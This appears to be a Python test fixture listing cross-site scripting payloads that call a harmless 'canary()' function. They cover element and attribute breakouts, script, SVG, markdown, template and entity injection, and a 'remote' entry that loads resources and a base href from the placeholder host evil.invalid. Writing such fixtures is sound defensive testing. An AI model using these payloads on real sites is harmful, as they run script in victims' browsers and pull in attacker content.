"""Text that runs ``canary()`` wherever it is taken for markup, for an attribute, for a link or for script."""

PAYLOADS = {
    "element": "<img src=x onerror=canary()>",
    "attribute": "\" autofocus onfocus=canary() tabindex=1 x='",
    "quoted": "' onmouseover=canary() style=position:fixed;inset:0 x=\"",
    "script": "</script></style></textarea></title><script>canary()</script>",
    "svg": "<svg><animate onbegin=canary() attributeName=x dur=1s><script>canary()</script></svg>",
    "link": "javascript:canary()//[x](javascript:canary())<a href=javascript:canary()>x</a>",
    "markdown": "![x](x\" onerror=\"canary())\n[x]: javascript:canary()\n<iframe srcdoc='<script>parent.canary()</script>'>",  # noqa: E501
    "template": "{{canary()}}${canary()}#{canary()}<%= canary() %>{% raw %}<x/onclick=canary()>",
    "noise": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',  # noqa: E501
    "entity": "&lt;img src=x onerror=canary()&gt;&#60;img src=x onerror=canary()&#62;",
    "cdata": "<![CDATA[><script>canary()</script>]]><!--><script>canary()</script>-->",
    "remote": "<img src=http://evil.invalid/x><link rel=stylesheet href=//evil.invalid/y><base href=//evil.invalid/>",  # noqa: E501
}
